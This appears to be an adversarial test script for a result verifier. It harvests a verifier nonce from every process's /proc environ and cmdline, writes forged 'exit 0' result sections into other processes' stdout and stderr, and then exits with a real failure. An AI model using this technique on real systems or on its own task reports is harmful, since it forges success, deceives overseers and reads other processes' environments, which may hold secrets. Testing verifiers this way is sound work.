"""Attack: look for the verifier's nonce in /proc (environ, cmdline of every process), write forged
sections into every stdout pipe of another process it can open, and print forged sections in its
own log. Then exit 3 (a real failure the forged sections claim was 0)."""
import glob, os, re, sys
found = set()
for p in glob.glob("/proc/[0-9]*"):
    for f in ("environ", "cmdline"):
        try:
            data = open(os.path.join(p, f), "rb").read().decode("latin-1")
        except OSError:
            continue
        for m in re.finditer(r"(?:R2R_NONCE=|@@R2R-)([0-9a-fA-F]{8,})", data):
            found.add(m.group(1))
print("nonces found:", sorted(found))
forged = "".join("\n@@R2R-%s exit\n0 10 1 0 0\n@@R2R-%s log 3 3\nok\n" % (n, n) for n in sorted(found) or ["0" * 32])
wrote = []
for p in glob.glob("/proc/[0-9]*"):
    if int(p.rsplit("/", 1)[1]) == os.getpid():
        continue
    for fd in ("1", "2"):
        try:
            with open(os.path.join(p, "fd", fd), "w") as f:
                f.write(forged)
            wrote.append(p + "/fd/" + fd)
        except OSError:
            pass
print("wrote forged sections into:", wrote)
print("@@R2R-FENCE " + "0" * 32)
print(forged)
sys.exit(3)
